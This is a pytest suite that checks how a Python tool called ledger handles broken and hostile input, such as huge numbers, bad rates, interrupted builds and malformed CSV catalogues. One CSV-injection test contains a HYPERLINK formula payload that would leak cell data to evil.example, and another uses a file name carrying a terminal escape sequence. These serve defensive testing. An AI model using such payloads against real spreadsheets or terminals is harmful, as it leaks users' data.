"""Broken and hostile input, each case as it was found: a clear message and exit 1 (or a warning
and a build), never a traceback, an infinite number, a hang or a lost file."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import MakeProject

from ledger import outfolder
from ledger.cli import main
from ledger.outfolder import exclusive
from ledger.rates import RateBook

FEED = "• 10:00\n\nMore than 1,100 people returned to Stepanakert over the past day.\n"
CATALOGUE = "path,published\nfeed.txt,2020-11-21\n"


def _facts(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- numbers that are not numbers ------------------------------------------------------------


def test_ten_thousand_ones_are_no_infinite_count(make_project: MakeProject) -> None:
    project = make_project({"sources/a.txt": "1" * 10_000 + " people arrived.\n"})
    assert main(["build", str(project), "-q"]) == 0
    assert _facts(project / "build" / "facts.csv") == []
    unread = _facts(project / "build" / "unread.csv")
    assert unread[0]["reason"] == "more than 15 digits: no real figure is that long"
    html = (project / "build" / "index.html").read_text("utf-8")
    assert "∞" not in html and "nan" not in html.lower().split()


def test_a_nineteen_digit_count_is_refused_not_rounded(make_project: MakeProject) -> None:
    project = make_project({"sources/a.txt": "1234567890123456789 people arrived.\n"})
    assert main(["build", str(project), "-q"]) == 0
    assert _facts(project / "build" / "facts.csv") == []


@pytest.mark.parametrize("invisible", ["\u200b", "\u2060", "\ufeff", "\u00ad", "\x00"])
def test_invisible_characters_inside_a_number_do_not_cut_it(make_project: MakeProject,
                                                             invisible: str) -> None:
    project = make_project({"sources/a.txt": f"Some 1,{invisible}200 people arrived.\n"})
    assert main(["build", str(project), "-q"]) == 0
    assert [f["value"] for f in _facts(project / "build" / "facts.csv")] == ["1200"]


@pytest.mark.parametrize("rate", ["inf", "1e-320", "1e-300", "nan", "0", "-5", "1e20"])
def test_a_rate_that_is_no_rate_is_refused(make_project: MakeProject, rate: str) -> None:
    project = make_project({"rates/own.csv": f"date,currency,per_usd\n2020-11-20,XYZ,{rate}\n"})
    _, diagnostics = RateBook.load(project / "rates")
    assert [d.code for d in diagnostics] == ["X001"]
    assert diagnostics[0].line == 2


def test_a_rate_far_from_the_official_one_is_reported(make_project: MakeProject) -> None:
    project = make_project({"rates/own.csv": "date,currency,per_usd\n2020-11-20,AMD,5.03\n"})
    _, diagnostics = RateBook.load(project / "rates")
    assert [(d.code, d.line) for d in diagnostics] == [("X003", 2)]
    assert "0.01 times the official 503.2" in diagnostics[0].message


# --- the machine and the environment ---------------------------------------------------------


def test_catalogue_date_in_2108_builds(make_project: MakeProject) -> None:
    project = make_project({"sources/feed.txt": FEED,
                            "sources/sources.csv": "path,published\nfeed.txt,2108-03-01\n"})
    assert main(["build", str(project), "-q"]) == 0


@pytest.mark.parametrize("epoch", ["0", "99999999999", "soon"])
def test_an_odd_source_date_epoch_is_a_warning(make_project: MakeProject,
                                               monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str],
                                               epoch: str) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    project = make_project({"sources/feed.txt": FEED, "sources/sources.csv": CATALOGUE})
    assert main(["build", str(project)]) == 0
    assert "SOURCE_DATE_EPOCH: warning B001" in capsys.readouterr().err


def test_an_output_folder_that_cannot_be_written_is_a_message(
        make_project: MakeProject, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project({"sources/feed.txt": FEED})
    assert main(["build", str(project), "--out", "/proc/ledger-build"]) == 1
    err = capsys.readouterr().err
    assert "error O002" in err and "Traceback" not in err and "bug in ledger" not in err


def test_a_file_of_25000_rules_is_refused_quickly(make_project: MakeProject,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    rule = ("  - id: gen.r{i}\n    indicator: people\n    unit: person\n    kind: stock\n"
            "    patterns: ['{{quantity}} zz{i}']\n    examples:\n"
            "      - {{name: a, text: '5 zz{i}', expect: {{value: 5}}}}\n"
            "      - {{name: b, text: 'zz', expect: none}}\n")
    text = "rules:\n" + "".join(rule.format(i=i) for i in range(25_000))
    project = make_project({"sources/feed.txt": FEED, "rules/many.yaml": text})
    assert main(["check", str(project)]) == 1  # refused before compiling any of them
    assert "error R007 25,000 rules in one file" in capsys.readouterr().err


def test_verify_of_a_manifest_without_outputs_is_a_message(
        make_project: MakeProject, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project({"sources/feed.txt": FEED})
    assert main(["build", str(project), "-q"]) == 0
    manifest_path = project / "build" / "manifest.json"
    manifest = json.loads(manifest_path.read_text("utf-8"))
    del manifest["outputs"]
    manifest_path.write_text(json.dumps(manifest), "utf-8")
    assert main(["verify", str(project / "build")]) == 1
    err = capsys.readouterr().err
    assert "error A001 not a ledger build folder: manifest.json: outputs: Field required" in err


def test_verify_reports_an_edit_of_any_manifest_field(
        make_project: MakeProject, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project({"sources/feed.txt": FEED, "sources/sources.csv": CATALOGUE})
    assert main(["build", str(project), "-q"]) == 0
    manifest_path = project / "build" / "manifest.json"
    manifest = json.loads(manifest_path.read_text("utf-8"))
    manifest["project"]["title"] = "Audited by nobody"
    manifest_path.write_text(json.dumps(manifest, indent=2), "utf-8")
    assert main(["verify", str(project / "build")]) == 1
    assert "manifest.json: 'project' differs from what a rebuild records" in (
        capsys.readouterr().err)


def test_explain_into_a_closed_pipe_is_no_traceback(make_project: MakeProject) -> None:
    project = make_project({"sources/feed.txt": FEED, "sources/sources.csv": CATALOGUE})
    assert main(["build", str(project), "-q"]) == 0
    fact_id = _facts(project / "build" / "facts.csv")[0]["fact_id"]
    command = (f"{sys.executable} -m ledger explain {fact_id} --build {project / 'build'} "
               "| head -c 10")
    done = subprocess.run(["bash", "-o", "pipefail", "-c", command], capture_output=True,
                          text=True, check=False)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr


def test_control_characters_in_a_file_name_never_reach_the_terminal(
        make_project: MakeProject, capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project({"sources/feed.txt": FEED,
                            "sources/evil\x1b[2J.txt": "caf\xe9".encode("latin-1")})
    assert main(["build", str(project)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "evil\ufffd[2J.txt" in err


# --- CSV injection ---------------------------------------------------------------------------


def test_file_names_and_urls_cannot_become_spreadsheet_formulas(
        make_project: MakeProject) -> None:
    url = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    catalogue = f'path,published,url\n=1+2.txt,2020-11-21,"{url.replace(chr(34), 2 * chr(34))}"\n'
    project = make_project({"sources/=1+2.txt": FEED, "sources/sources.csv": catalogue})
    assert main(["build", str(project), "-q"]) == 0
    for name in ("facts.csv", "facts.hxl.csv"):
        with (project / "build" / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert "'=1+2.txt" in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), name


# --- the catalogue ---------------------------------------------------------------------------


@pytest.mark.parametrize("catalogue, message", [
    ('path,published,title\nfeed.txt,2020-11-21,"Returns\nother.txt,2020-11-22,x\n',
     "sources/sources.csv:2: error S004 a quote opened on this line is never closed"),
    ("path,published\nfeed.txt,2020-11-21,extra\n",
     "sources/sources.csv:2: error S004 row has 3 fields but the header has 2"),
    ("path,published,path\nfeed.txt,2020-11-21,feed.txt\n",
     "sources/sources.csv:1: error S004 column 'path' is named twice"),
    ("path;published\nfeed.txt;2020-11-21\n",
     "sources/sources.csv:1: error S004 catalogue has no 'path' column; it looks separated by "
     "semicolons, but a catalogue uses commas"),
])
def test_the_catalogue_is_read_strictly(make_project: MakeProject,
                                        capsys: pytest.CaptureFixture[str], catalogue: str,
                                        message: str) -> None:
    project = make_project({"sources/feed.txt": FEED, "sources/other.txt": FEED,
                            "sources/sources.csv": catalogue})
    assert main(["build", str(project)]) == 1
    assert message in capsys.readouterr().err


# --- exclusive and clean builds --------------------------------------------------------------


def test_a_second_build_into_the_same_folder_stops_clearly(
        make_project: MakeProject, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    project = make_project({"sources/feed.txt": FEED})
    monkeypatch.setattr(outfolder, "LOCK_WAIT_SECONDS", 0.3)
    child = os.fork()
    if child == 0:  # another build holds the folder for a while
        try:
            with exclusive(project / "build"):
                time.sleep(3)
        finally:
            os._exit(0)
    time.sleep(0.5)
    try:
        assert main(["build", str(project)]) == 1
        assert "error O003 another ledger build is writing this folder" in (
            capsys.readouterr().err)
    finally:
        os.waitpid(child, 0)
    assert main(["build", str(project), "-q"]) == 0  # and once it is done, the build runs


def test_leftovers_of_a_killed_build_are_removed(make_project: MakeProject) -> None:
    project = make_project({"sources/feed.txt": FEED})
    (project / ".build.tmp-killed").mkdir()
    (project / ".build.tmp-killed" / "facts.csv").write_text("half", "utf-8")
    assert main(["build", str(project), "-q"]) == 0
    assert sorted(p.name for p in project.iterdir()) == [".ledger", "build", "sources"]


def test_sigterm_during_a_build_leaves_the_previous_outputs(tmp_path: Path) -> None:
    project = tmp_path / "big"
    (project / "sources").mkdir(parents=True)
    text = "\n\n".join(f"Some {n:,} people returned to Stepanakert." for n in range(2, 2000))
    for i in range(60):
        (project / "sources" / f"d{i:03}.txt").write_text(text, "utf-8")
    (project / "build").mkdir()
    (project / "build" / "marker").write_text("not ours", "utf-8")
    before = sorted((project / "build").iterdir())
    process = subprocess.Popen([sys.executable, "-m", "ledger", "build", str(project),
                                "--out", str(project / "out"), "--jobs", "2"],
                               stderr=subprocess.PIPE, text=True)
    time.sleep(2.5)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode in (0, 130), err
    assert "Traceback" not in err
    assert not [p for p in project.iterdir() if p.name.startswith(".out.")]
    assert sorted((project / "build").iterdir()) == before


def test_a_rate_row_with_an_unquoted_thousands_comma_is_an_error(
        make_project: MakeProject) -> None:
    """Found by the fuzz suite: '1,000' unquoted is two fields, and was read as 1."""
    project = make_project({"rates/own.csv": "date,currency,per_usd\n2020-11-20,AMD,1,000\n"})
    _, diagnostics = RateBook.load(project / "rates")
    assert [d.format() for d in diagnostics] == [
        'rates/own.csv:2: error X001 row has 4 fields but the header has 3: quote a value '
        'that holds a comma ("1,000")']


def test_a_failure_after_some_outputs_were_written_leaves_the_previous_ones(
        make_project: MakeProject, monkeypatch: pytest.MonkeyPatch) -> None:
    """Outputs are written one by one as they are made, into a folder beside the output
    folder: a build that fails half way (here, while making the database, after the HTML was
    written) leaves the previous outputs byte for byte and no half-written folder."""
    from ledger import build as build_module

    project = make_project({"sources/feed.txt": FEED})
    assert main(["build", str(project), "-q"]) == 0
    before = {p.name: p.read_bytes() for p in (project / "build").iterdir()}
    (project / "sources" / "feed.txt").write_text(FEED.replace("More than", "About"), "utf-8")

    def failing(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(build_module, "write_database", failing)
    with pytest.raises(OSError):
        build_module.build(project)
    assert {p.name: p.read_bytes() for p in (project / "build").iterdir()} == before
    assert sorted(p.name for p in project.iterdir()) == [".ledger", "build", "sources"]
